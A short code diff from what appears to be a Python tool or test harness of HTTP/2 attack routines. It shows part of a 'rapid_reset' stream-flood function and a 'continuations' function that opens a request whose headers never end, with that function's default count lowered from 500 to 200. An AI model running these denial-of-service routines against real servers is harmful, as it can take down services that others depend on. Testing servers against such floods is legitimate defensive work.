@@ -74,7 +74,7 @@ async def rapid_reset(door: Door, address: str, streams: int = 400) -> bool:
     return await _sent(door, address, PREFACE + frame(SETTINGS, 0, 0) + b"".join(opened))
 
 
-async def continuations(door: Door, address: str, count: int = 500) -> bool:
+async def continuations(door: Door, address: str, count: int = 200) -> bool:
     """Begin a request whose headers never end."""
     fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", door.host)]
     head = frame(HEADERS, END_STREAM, 1, Encoder().encode(fields))
